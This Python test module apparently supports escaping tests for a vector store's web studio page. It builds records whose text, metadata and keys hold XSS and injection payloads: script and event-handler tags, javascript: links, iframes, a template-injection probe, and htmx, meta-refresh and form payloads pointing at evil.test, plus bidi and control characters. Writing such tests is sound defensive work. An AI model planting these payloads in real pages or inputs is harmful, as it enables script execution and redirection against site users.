"""The page of records, asked without a socket, and records that try to be more than text."""

import json
from html.parser import HTMLParser

import httpx

from oss_vector_retriever.records import ENVELOPE_KEYS
from oss_vector_retriever.studio import Studio

HOST = "http://127.0.0.1:9000"
OWN = {"HX-Request": "true", "Sec-Fetch-Site": "same-origin"}
ROOT = "/_studio"
HIDDEN = ["text", "_node_content", *ENVELOPE_KEYS]  # fields that may be large
INDEX = f"{ROOT}/b/development-bucket/vectors"

_LONG = "\u4e00\u202e<b>&" * 3600  # 36 KB in UTF-8, with many turns of direction

# by name, what stands in a record's text, its metadata, and its key where that can hold it
HOSTILE = {
    "script": "<script>window.pwned = 1; alert(1)</script>",
    "image": "<img src=x onerror='window.pwned = 1'>",
    "attribute": '" onmouseover="window.pwned = 1" autofocus onfocus="window.pwned = 1" x="',
    "apostrophe": "' onfocus='window.pwned = 1' autofocus tabindex='1",
    "svg": "<svg onload='window.pwned = 1'><animate onbegin='window.pwned = 1'/></svg>",
    "link": "<a href='javascript:window.pwned = 1'>javascript:window.pwned = 1</a>",
    "frame": "<iframe src='http://evil.test/' srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "style": "</style><style>* { display: none; background: url(http://evil.test/s) }</style>",
    "textarea": "</textarea><script>window.pwned = 1</script><textarea>",
    "title": "</title><script>window.pwned = 1</script>",
    "pre": "</code></pre><form action='http://evil.test/'><button>Look up</button></form>",
    "comment": "<!--><script>window.pwned = 1</script-->",
    "template": "{{ 1234577 * 3 }}{% for x in [1] %}{{ x }}{% endfor %}{{ ''.__class__.__mro__ }}",
    "htmx": "<div hx-get='http://evil.test/h' hx-trigger='load' hx-on::load='pwned = 1'>x</div>",
    "boost": "<div hx-get='/_studio/' hx-trigger='load' hx-target='body'></div>",
    "meta": "<meta http-equiv=refresh content='0;url=http://evil.test/'><base href='//evil.test'>",
    "entity": "&lt;script&gt;window.pwned = 1&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "direction": "user\u202e\u2066txt.exe\u2069\u202d\u200f\ufeff",
    "controls": "a\x00b\x1b[31mred\x07\x08\x7f\x9b\u2028\u2029",
    "long": _LONG,
    "utf-7": "+ADw-script+AD4-window.pwned = 1+ADw-/script+AD4-",
    "object": "<object data='data:text/html,<script>parent.pwned=1</script>'></object><embed>",
}


def hostile_vectors():
    """Return a record of each kind: hostile in its text, in names and values, and in its key."""
    vectors = [
        {
            "key": text[:1000],
            "data": [1, place / 100],
            "metadata": {"text": text, text[:60]: [text[:60]], "tag": text[:150]},
        }
        for place, text in enumerate(HOSTILE.values())
    ]
    inside = {name: text[:500] for name, text in HOSTILE.items()}
    node = {"text": HOSTILE["script"], "class_name": HOSTILE["image"], "metadata": {"a": inside}}
    broken = {"key": "broken", "data": [1, 0.5], "metadata": {"_node_content": HOSTILE["script"]}}
    nested = {"key": "node", "data": [1, 0.6], "metadata": {"_node_content": json.dumps(node)}}
    return [*vectors, broken, nested]


def opened(client, **options):
    """Return an HTTP client that asks the page as its own script does, and the page."""
    page = Studio(client, **options)
    transport = httpx.ASGITransport(page, client=("127.0.0.1", 50000))
    return httpx.AsyncClient(transport=transport, base_url=HOST, headers=OWN), page


class Outline(HTMLParser):
    """What a view is made of, and the text that a reader sees."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.parts = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.parts.append(data)

    def all(self, tag, **attributes):
        wanted = attributes.items()
        return [own for name, own in self.elements if name == tag and wanted <= own.items()]

    @property
    def text(self):
        return "".join(self.parts)

    @property
    def words(self):
        return " ".join(" ".join(self.parts).split())
